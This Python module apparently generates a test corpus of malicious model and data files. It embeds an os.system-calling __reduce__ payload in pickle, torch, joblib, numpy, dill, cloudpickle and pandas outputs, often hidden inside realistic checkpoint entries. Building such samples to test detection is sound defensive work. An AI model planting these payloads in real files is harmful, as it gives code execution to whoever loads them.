"""Malicious samples written by the real libraries (pickle, torch, joblib, numpy, dill, cloudpickle, pandas).

The payload object is :class:`Payload`, whose ``__reduce__`` asks the loader to call ``os.system(cmd)``.
"""

from __future__ import annotations

import io
import os
import pickle
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.corpus.model import Ctx, add


class Payload:
    """An object that unpickles as ``os.system(cmd)``."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.cmd,))


class LambdaPayload:
    """Unpickles as a call to a lambda serialized by value (dill / cloudpickle)."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[Any, ...]:
        # built in a fresh "__main__" namespace so dill/cloudpickle serialize the function by value
        make = eval("lambda cmd: lambda: __import__('os').system(cmd)", {"__name__": "__main__"})  # noqa: S307
        return (make(self.cmd), ())


def _via_file(write: Callable[[str], None], suffix: str = "") -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "f" + suffix)
        write(path)
        return Path(path).read_bytes()


def state_with(payload: Any) -> dict[str, Any]:
    """A realistic checkpoint dict with one poisoned entry."""
    import torch

    return {"layer.weight": torch.ones(2, 2), "layer.bias": torch.zeros(2), "meta": payload}


def _torch_zip(c: Ctx) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(state_with(Payload(c.cmd)), buf)
    return buf.getvalue()


def _torch_legacy(c: Ctx) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(state_with(Payload(c.cmd)), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _joblib(compress: Any) -> Callable[[Ctx], bytes]:
    def build(c: Ctx) -> bytes:
        import joblib
        import numpy as np

        obj = {"coef": np.arange(10.0), "payload": Payload(c.cmd)}
        return _via_file(lambda p: joblib.dump(obj, p, compress=compress))

    return build


def _npy(c: Ctx) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([Payload(c.cmd), 1], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _npz(compressed: bool) -> Callable[[Ctx], bytes]:
    def build(c: Ctx) -> bytes:
        import numpy as np

        buf = io.BytesIO()
        save = np.savez_compressed if compressed else np.savez
        save(buf, weights=np.ones(4), meta=np.array([Payload(c.cmd)], dtype=object))
        return buf.getvalue()

    return build


def _pickled_ndarray(c: Ctx) -> bytes:
    import numpy as np

    return pickle.dumps(np.array([Payload(c.cmd)], dtype=object), protocol=4)


def _dill_lambda(c: Ctx) -> bytes:
    import dill

    return bytes(dill.dumps(LambdaPayload(c.cmd)))


def _cloudpickle_lambda(c: Ctx) -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps(LambdaPayload(c.cmd)))


def _pandas(compression: str) -> Callable[[Ctx], bytes]:
    def build(c: Ctx) -> bytes:
        import pandas as pd

        df = pd.DataFrame({"a": [1, 2], "b": [Payload(c.cmd), None]})
        return _via_file(lambda p: df.to_pickle(p, compression=compression))

    return build


for _proto in range(6):
    add(
        f"lib-pickle-reduce-p{_proto}",
        "library",
        (lambda pr: lambda c: pickle.dumps(Payload(c.cmd), protocol=pr))(_proto),
        primitives=("posix.system",),
        notes="real pickle.dumps of an object with __reduce__",
    )
add(
    "lib-torch-zip",
    "library",
    _torch_zip,
    loader="torch",
    ext=".pt",
    primitives=("posix.system",),
    notes="torch.save zip checkpoint with a poisoned entry in data.pkl",
)
add(
    "lib-torch-legacy",
    "library",
    _torch_legacy,
    loader="torch",
    ext=".pt",
    primitives=("posix.system",),
    notes="torch.save(_use_new_zipfile_serialization=False)",
)
for _comp, _label in (
    (0, "raw"),
    (("zlib", 3), "zlib"),
    (("gzip", 3), "gzip"),
    (("bz2", 3), "bz2"),
    (("xz", 3), "xz"),
    (("lzma", 3), "lzma"),
    (("lz4", 3), "lz4"),
):
    add(
        f"lib-joblib-{_label}",
        "library",
        _joblib(_comp),
        loader="joblib",
        ext=".joblib",
        primitives=("posix.system",),
        notes=f"joblib.dump compress={_comp!r}",
    )
add(
    "lib-numpy-npy-object",
    "library",
    _npy,
    loader="numpy",
    ext=".npy",
    primitives=("posix.system",),
    notes="object-dtype .npy: the data section is a pickle",
)
add("lib-numpy-npz-member", "library", _npz(False), loader="numpy", ext=".npz", primitives=("posix.system",))
add("lib-numpy-npz-compressed-member", "library", _npz(True), loader="numpy", ext=".npz", primitives=("posix.system",))
add(
    "lib-pickled-object-ndarray",
    "library",
    _pickled_ndarray,
    primitives=("posix.system",),
    notes="payload nested in the state of a pickled object ndarray",
)
add(
    "lib-dill-lambda",
    "library",
    _dill_lambda,
    loader="dill",
    primitives=("dill._dill._create_code", "dill._dill._create_function"),
    notes="lambda serialized by value and called on load",
)
add(
    "lib-cloudpickle-lambda",
    "library",
    _cloudpickle_lambda,
    primitives=("cloudpickle._make_function", "types.CodeType"),
    notes="lambda serialized by value; plain pickle.load runs it",
)
for _comp in ("gzip", "bz2", "xz", "zip"):
    add(
        f"lib-pandas-to-pickle-{_comp}",
        "library",
        _pandas(_comp),
        loader="pandas",
        ext=f".pkl.{ {'gzip': 'gz', 'bz2': 'bz2', 'xz': 'xz', 'zip': 'zip'}[_comp] }",
        primitives=("posix.system",),
        notes=f"DataFrame.to_pickle(compression={_comp!r}); read_pickle infers it from the extension",
    )


def _joblib_object_array(compress: Any) -> Callable[[Ctx], bytes]:
    def build(c: Ctx) -> bytes:
        import joblib
        import numpy as np

        obj = {"weights": np.ones(3), "labels": np.array(["cat", Payload(c.cmd)], dtype=object)}
        return _via_file(lambda p: joblib.dump(obj, p, compress=compress))

    return build


add(
    "lib-joblib-object-array",
    "library",
    _joblib_object_array(0),
    loader="joblib",
    ext=".joblib",
    primitives=("posix.system",),
    notes="payload inside an object ndarray: joblib writes it as a nested pickle after the NumpyArrayWrapper",
)
add(
    "lib-joblib-object-array-zlib",
    "library",
    _joblib_object_array(("zlib", 3)),
    loader="joblib",
    ext=".joblib",
    primitives=("posix.system",),
    notes="nested object-array pickle, zlib-compressed stream",
)
